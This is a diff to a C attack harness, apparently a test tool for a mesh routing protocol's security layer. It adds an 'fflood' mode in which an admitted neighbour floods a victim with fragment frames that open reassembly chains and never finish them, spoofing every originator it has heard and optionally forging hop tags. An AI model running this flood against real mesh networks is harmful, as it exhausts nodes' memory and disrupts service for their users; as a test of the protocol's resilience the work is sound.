@@ -68,6 +68,12 @@
  *		with TTL 1 to -V, for -T, from our address and from -C's
  *		(spoofed), as fast as -r allows; reports trace_fakes,
  *		ttlx_to_us (the TTLXs that came back to us) and flood_ms
+ *   fflood	-K as insider; then FRAG pieces to -V for -T (default -V):
+ *		the first 100 bytes of chains of 1562 that never complete,
+ *		a new seqno each, in the name of every originator heard and
+ *		ours in turn, correctly hop-tagged (-x forge: random tags),
+ *		as fast as -r allows (-t counting from the first piece);
+ *		prints "chains N"
  *
  * Prints "sent N frames" at the end, and for the data-plane modes
  * "KEY VALUE" lines (echo_replies, echo_to_copy, keyid, ...); exit 0, or
@@ -420,6 +426,47 @@ d2_sealed(uint8_t *buf, size_t cap, const struct d2_sealed *s)
 		bs_random(buf + len - D2_AEAD_LEN, D2_AEAD_LEN);
 	}
 	d2_sealed_tag(buf, len, s->hop);
+	return len;
+}
+
+/*
+ * FRAG: the hop part of UNICAST, then dst (6), fragmenter (6), seqno
+ * (4), total (2), offset (2), the piece; the hop tag covers bytes 0..16
+ * and 24 to the end.  hop NULL: a random tag.  The frame's length.
+ */
+#define D2_FRAG_HDR	44
+#define D2_FRAG_PIECE	100
+
+static size_t
+d2_frag(uint8_t *buf, size_t cap, const uint8_t *dst, const uint8_t *orig,
+    uint32_t seqno, uint16_t total, const uint8_t *piece,
+    const uint8_t *hop, const uint8_t *keyid, uint64_t hop_ctr)
+{
+	uint8_t in[D2_FRAG_HDR + D2_FRAG_PIECE];
+	size_t len = D2_FRAG_HDR + D2_FRAG_PIECE;
+
+	if (cap < len)
+		return 0;
+	buf[0] = WIRE_T_FRAG;
+	buf[1] = D2_VERSION;
+	buf[2] = D2_TTL;
+	buf[3] = 0;
+	memcpy(buf + D2_KEYID_OFF, keyid, BS_KEYID_LEN);
+	bs_put64(buf + D2_HCTR_OFF, hop_ctr);
+	memcpy(buf + D2_E2E_OFF, dst, BS_ADDR_LEN);
+	memcpy(buf + D2_E2E_OFF + 6, orig, BS_ADDR_LEN);
+	bs_put32(buf + D2_E2E_OFF + 12, seqno);
+	bs_put16(buf + D2_E2E_OFF + 16, total);
+	bs_put16(buf + D2_E2E_OFF + 18, 0);
+	memcpy(buf + D2_FRAG_HDR, piece, D2_FRAG_PIECE);
+	if (hop == NULL) {
+		bs_random(buf + D2_HTAG_OFF, D2_HTAG_LEN);
+		return len;
+	}
+	memcpy(in, buf, D2_HTAG_OFF);
+	memcpy(in + D2_HTAG_OFF, buf + D2_E2E_OFF, len - D2_E2E_OFF);
+	crypto_shorthash_siphash24(buf + D2_HTAG_OFF, in, len - D2_HTAG_LEN,
+	    hop);
 	return len;
 }
 
@@ -1714,6 +1761,54 @@ mode_dflood(struct atk *a, int secs)
 }
 
 /*
+ * An admitted neighbour of -V starts reassembly chains at -V (for -T)
+ * that it never completes, in the names of every originator it heard
+ * and its own, staying a neighbour (HELLO, OGM) as it goes.
+ */
+static void
+mode_fflood(struct atk *a, int secs)
+{
+	uint8_t f[D2_FRAG_HDR + D2_FRAG_PIECE], piece[D2_FRAG_PIECE];
+	const uint8_t *dst = atk_set(a->target) ? a->target : a->victim;
+	const uint8_t *orig;
+	int forge = strcmp(a->kinds, "forge") == 0;
+	uint32_t seqno = bs_random_uniform(1u << 30);
+	struct atk_peer *v;
+	unsigned k = 0, chains = 0;
+	size_t n;
+
+	if (atk_aim(a, 8, 1) != 0)
+		exit(1);
+	while (atk_running(a, 6))	/* the mesh learns our OGMs */
+		atk_node(a, 100, atk_watch);
+	if ((v = atk_peer_find(a, a->victim)) == NULL || !v->keyed) {
+		fprintf(stderr, "batsec-attack: no hop key with -V\n");
+		exit(1);
+	}
+	bs_random(piece, sizeof(piece));
+	/* -t and -r count from here: no burst to catch up on the wait. */
+	a->start_ns = atk_now_ns();
+	a->sent = 0;
+	while (atk_running(a, secs)) {
+		k++;
+		/* Stay a neighbour: our HELLOs, and -V's read (rx_count). */
+		if ((k & 63) == 0)
+			atk_node(a, 20, atk_watch);
+		orig = (int)(k % (unsigned)(a->n_orig + 1)) == a->n_orig ?
+		    a->addr : a->orig[k % (unsigned)(a->n_orig + 1)].addr;
+		if (memcmp(orig, dst, BS_ADDR_LEN) == 0)
+			continue;
+		n = d2_frag(f, sizeof(f), dst, orig, seqno++, 1562, piece,
+		    forge ? NULL : v->hop, v->hopid, ++a->hop_ctr);
+		if (n > 0) {
+			atk_send_to(a, v->mac, NULL, f, n);
+			chains++;
+		}
+	}
+	printf("chains %u\n", chains);
+}
+
+/*
  * As -C (its MAC and mesh address, learnt from its HELLOs): OGM frames
  * with a type-2 (signature) trailer of random bytes and fresh frame
  * counters (its epoch, above any counter it used), so that each reaches
@@ -1920,6 +2015,8 @@ main(int argc, char **argv)
 		mode_bseq(&a, secs);
 	else if (strcmp(mode, "dflood") == 0 && atk_set(a.victim))
 		mode_dflood(&a, secs);
+	else if (strcmp(mode, "fflood") == 0 && atk_set(a.victim))
+		mode_fflood(&a, secs);
 	else if (strcmp(mode, "linksig") == 0 && atk_set(a.copy))
 		mode_linksig(&a, secs);
 	else if (strcmp(mode, "hellos") == 0)
